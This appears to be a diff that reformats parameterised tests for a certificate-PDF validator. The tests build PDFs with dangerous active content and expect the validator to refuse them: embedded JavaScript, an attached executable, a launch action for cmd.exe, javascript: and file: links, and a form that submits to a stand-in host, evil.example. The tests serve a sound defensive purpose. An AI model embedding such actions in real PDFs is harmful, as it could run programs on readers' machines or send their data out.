@@ -78,16 +78,29 @@ describe("the certificate PDF check", () => {
   it.each([
     ["a document-level script", async (doc: PDFDocument) => doc.addJavaScript("welcome", "app.alert('hello')")],
     ["an attached file", async (doc: PDFDocument) => doc.attach(Buffer.from("MZ not a certificate"), "setup.exe", { mimeType: "application/octet-stream" })],
-    ["a script run when a page opens (/AA)", (doc: PDFDocument) => doc.getPage(0).node.set(PDFName.of("AA"), indirect(doc.context, { O: indirect(doc.context, { S: "Named", N: "Print" }) }))],
+    [
+      "a script run when a page opens (/AA)",
+      (doc: PDFDocument) => doc.getPage(0).node.set(PDFName.of("AA"), indirect(doc.context, { O: indirect(doc.context, { S: "Named", N: "Print" }) })),
+    ],
     ["a link that launches a program", (doc: PDFDocument) => linkWith(doc, { S: "Launch", F: PDFString.of("cmd.exe") })],
     ["a javascript: link", (doc: PDFDocument) => linkWith(doc, { S: "URI", URI: PDFString.of(" JaVaScript:app.alert(1)") })],
     ["a file: link", (doc: PDFDocument) => linkWith(doc, { S: "URI", URI: PDFString.of("file://server/share/x") })],
     ["a link to another PDF (/GoToR)", (doc: PDFDocument) => linkWith(doc, { S: "GoToR", F: PDFString.of("other.pdf"), D: [0, "Fit"] })],
     ["a form that sends itself (/SubmitForm)", (doc: PDFDocument) => linkWith(doc, { S: "SubmitForm", F: PDFString.of("https://evil.example/") })],
     ["a form that imports data (/ImportData)", (doc: PDFDocument) => linkWith(doc, { S: "ImportData", F: PDFString.of("data.fdf") })],
-    ["an XFA form", (doc: PDFDocument) => doc.catalog.set(PDFName.of("AcroForm"), indirect(doc.context, { Fields: [], XFA: indirect(doc.context, { Type: "XObject" }) }))],
-    ["rich media", (doc: PDFDocument) => doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([indirect(doc.context, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })]))],
-    ["an opening action that is not a place in the document", (doc: PDFDocument) => doc.catalog.set(PDFName.of("OpenAction"), indirect(doc.context, { S: "URI", URI: PDFString.of("https://tracker.example/") }))],
+    [
+      "an XFA form",
+      (doc: PDFDocument) => doc.catalog.set(PDFName.of("AcroForm"), indirect(doc.context, { Fields: [], XFA: indirect(doc.context, { Type: "XObject" }) })),
+    ],
+    [
+      "rich media",
+      (doc: PDFDocument) =>
+        doc.getPage(0).node.set(PDFName.of("Annots"), doc.context.obj([indirect(doc.context, { Type: "Annot", Subtype: "RichMedia", Rect: [0, 0, 10, 10] })])),
+    ],
+    [
+      "an opening action that is not a place in the document",
+      (doc: PDFDocument) => doc.catalog.set(PDFName.of("OpenAction"), indirect(doc.context, { S: "URI", URI: PDFString.of("https://tracker.example/") })),
+    ],
   ])("refuses %s, kept in a compressed object stream", async (_label, dress) => {
     await refused(await certificate(dress), DOCUMENT_TEXT.active);
   });
